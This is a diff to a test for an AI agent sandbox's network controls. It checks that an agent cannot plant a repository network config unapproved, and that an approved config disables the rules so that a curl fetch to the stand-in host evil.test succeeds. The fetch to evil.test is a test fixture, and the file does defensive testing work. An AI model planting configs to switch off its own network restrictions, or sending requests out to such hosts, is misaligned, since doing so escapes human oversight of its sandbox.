@@ -154,9 +154,14 @@ def test_agent_cannot_plant_a_repo_config_and_a_planted_one_waits_for_approval(
     assert t.returncode == 0, t.stderr
     assert '{"enabled": false}' in t.stdout and f"Approved {world.repo_file}" in t.stdout
 
-    r = world.cli(["--", *sh(fetch("https://evil.test/after", "AFTER"))], internet)
+    # Approved: that config decides now (rules disabled, no log: the network untouched,
+    # so the request meets the upstream's own certificate).
+    after = fetch("https://evil.test/after", "AFTER").replace(
+        "curl ", "curl --cacert /ca/upstream-ca.pem "
+    )
+    r = world.cli(["--", *sh(after)], internet)
     assert r.returncode == 0, r.stderr
-    assert "[Network] Using repo config: /work/.copilot_here/network.json" in r.stderr
+    assert "[Network] Inactive (repo config /work/.copilot_here/network.json)" in r.stderr
     assert arrived(r.stdout, "AFTER", "/after"), r.stdout
 
 
